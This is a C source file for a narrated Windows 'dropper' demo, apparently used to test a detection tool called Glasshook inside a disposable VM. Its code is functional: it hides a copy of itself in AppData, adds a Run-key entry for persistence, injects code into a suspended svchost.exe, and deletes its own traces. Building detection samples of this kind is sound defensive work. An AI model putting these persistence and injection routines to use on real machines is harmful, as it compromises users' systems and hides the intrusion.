// dropper: a short, harmless intrusion of the Windows kind for `glasshook demo windows`. It runs in
// a VM that is thrown away, and calls nobody. It tells what it does on the standard error, with all
// names and numbers, so that a test can hold what Glasshook saw against it.
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <windows.h>

/// What the code in the other process works with: it has no imports and no strings of its own.
typedef struct {
  DWORD(WINAPI *wait)(HANDLE, DWORD);
  BOOL(WINAPI *delete_file)(const char *);
  void(WINAPI *sleep)(DWORD);
  void(WINAPI *leave)(UINT);
  HANDLE dropper;
  char file[MAX_PATH];
} Orders;

enum {
  kCodeSize = 1024,  // more than the code is long: it has a page to itself
  kOrdersAt = 2048,
  kPageSize = 4096,
  kTries = 100,
  kLeftWith = 42,
};

/// Runs in the other process: when the dropper has ended, its file can be deleted.
__attribute__((section(".orders"), noinline, used)) static void WINAPI follow(Orders *orders) {
  orders->wait(orders->dropper, INFINITE);
  for (int i = 0; i < kTries && !orders->delete_file(orders->file); ++i) orders->sleep(50);
  orders->leave(kLeftWith);
}

static unsigned char page[kPageSize];
static char own_file[MAX_PATH], copy[MAX_PATH], stage[MAX_PATH];

static void need(int ok, const char *what) {
  if (ok) return;
  fprintf(stderr, "story: it failed: %s: error %lu\n", what, GetLastError());
  exit(1);
}

__attribute__((format(printf, 1, 2))) static void story(const char *format, ...) {
  char line[3 * MAX_PATH];
  va_list values;
  va_start(values, format);
  vsnprintf(line, sizeof line, format, values);
  va_end(values);
  // At once, since others write where this comes out.
  fprintf(stderr, "story: %s\n", line);
}

/// `variable`, a directory, and what is in it.
static void place(char *into, const char *variable, const char *name) {
  char directory[MAX_PATH];
  const DWORD length = GetEnvironmentVariableA(variable, directory, sizeof directory);
  need(length > 0 && length < sizeof directory, variable);
  need(snprintf(into, MAX_PATH, "%s\\%s", directory, name) < MAX_PATH, "a path that is too long");
}

static void copy_itself(void) {
  char folder[MAX_PATH];
  place(folder, "APPDATA", "Updater");
  place(copy, "APPDATA", "Updater\\updater.exe");
  story("it hides a copy of itself: %s", copy);
  need(CreateDirectoryA(folder, NULL), "CreateDirectory");
  need(CopyFileA(own_file, copy, TRUE), "CopyFile");
  need(SetFileAttributesA(copy, FILE_ATTRIBUTE_HIDDEN), "SetFileAttributes");
}

static void come_back(void) {
  static const char run[] = "Software\\Microsoft\\Windows\\CurrentVersion\\Run";
  char command[MAX_PATH + 16];
  HKEY key;
  const int length = snprintf(command, sizeof command, "\"%s\" /quiet", copy);
  story("it comes back at every log-on: HKCU\\%s\\Updater = %s", run, command);
  need(RegCreateKeyExA(HKEY_CURRENT_USER, run, 0, NULL, 0, KEY_SET_VALUE, NULL, &key, NULL) == 0,
       "RegCreateKeyEx");
  need(RegSetValueExA(key, "Updater", 0, REG_SZ, (const BYTE *)command, (DWORD)length + 1) == 0,
       "RegSetValueEx");
  RegCloseKey(key);
}

/// Leaves what another process shall run in a file, as a dropper does that has fetched it.
static void unpack(void) {
  const HMODULE kernel32 = GetModuleHandleA("kernel32.dll");
  DWORD written = 0;
  Orders *orders = (Orders *)(page + kOrdersAt);
  place(stage, "TEMP", "stage2.bin");
  story("it unpacks code: %s", stage);
  orders->wait = (void *)GetProcAddress(kernel32, "WaitForSingleObject");
  orders->delete_file = (void *)GetProcAddress(kernel32, "DeleteFileA");
  orders->sleep = (void *)GetProcAddress(kernel32, "Sleep");
  orders->leave = (void *)GetProcAddress(kernel32, "ExitProcess");
  memcpy(orders->file, own_file, sizeof own_file);
  memcpy(page, (const void *)follow, kCodeSize);
  const HANDLE file = CreateFileA(stage, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
  need(file != INVALID_HANDLE_VALUE, "CreateFile");
  need(WriteFile(file, page, kPageSize, &written, NULL) && written == kPageSize, "WriteFile");
  CloseHandle(file);
}

/// Starts a program of Windows that does not run yet.
static PROCESS_INFORMATION start_child(void) {
  char image[MAX_PATH];
  char command[] = "svchost.exe -k netsvcs";
  // The child has this process's standard output: who reads that knows when both have ended.
  STARTUPINFOA startup = {.cb = sizeof startup,
                          .dwFlags = STARTF_USESTDHANDLES,
                          .hStdInput = GetStdHandle(STD_INPUT_HANDLE),
                          .hStdOutput = GetStdHandle(STD_OUTPUT_HANDLE),
                          .hStdError = GetStdHandle(STD_ERROR_HANDLE)};
  PROCESS_INFORMATION child;
  place(image, "SystemRoot", "system32\\svchost.exe");
  need(CreateProcessA(image, command, NULL, NULL, TRUE, CREATE_SUSPENDED, NULL, NULL, &startup,
                      &child),
       "CreateProcess");
  story("it starts %s, process %lu, suspended", image, child.dwProcessId);
  return child;
}

/// Lets the child run the code instead of its own.
static void inject(const PROCESS_INFORMATION *child) {
  CONTEXT context = {.ContextFlags = CONTEXT_FULL};
  SIZE_T written = 0;
  DWORD old = 0;
  Orders *orders = (Orders *)(page + kOrdersAt);
  need(DuplicateHandle(GetCurrentProcess(), GetCurrentProcess(), child->hProcess, &orders->dropper,
                       SYNCHRONIZE, FALSE, 0),
       "DuplicateHandle");
  unsigned char *there =
      VirtualAllocEx(child->hProcess, NULL, kPageSize, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
  need(there != NULL, "VirtualAllocEx");
  story("it makes process %lu run %d bytes at 0x%llx", child->dwProcessId, kPageSize,
        (unsigned long long)(ULONG_PTR)there);
  need(
      WriteProcessMemory(child->hProcess, there, page, kPageSize, &written) && written == kPageSize,
      "WriteProcessMemory");
  need(VirtualProtectEx(child->hProcess, there, kPageSize, PAGE_EXECUTE_READ, &old),
       "VirtualProtectEx");
  need(GetThreadContext(child->hThread, &context), "GetThreadContext");
  // A thread that has not run yet: ntdll calls what is in rcx, with what is in rdx.
  context.Rcx = (ULONG_PTR)there;
  context.Rdx = (ULONG_PTR)(there + kOrdersAt);
  need(SetThreadContext(child->hThread, &context), "SetThreadContext");
  need(ResumeThread(child->hThread) == 1, "ResumeThread");
}

int main(void) {
  need(GetModuleFileNameA(NULL, own_file, sizeof own_file) > 0, "GetModuleFileName");
  story("a dropper begins: %s, process %lu", own_file, GetCurrentProcessId());
  copy_itself();
  come_back();
  unpack();
  const PROCESS_INFORMATION child = start_child();
  inject(&child);
  story("it deletes its traces: %s", stage);
  need(DeleteFileA(stage), "DeleteFile");
  story("process %lu shall delete the last one, and end with %d: %s", child.dwProcessId, kLeftWith,
        own_file);
  return 0;
}
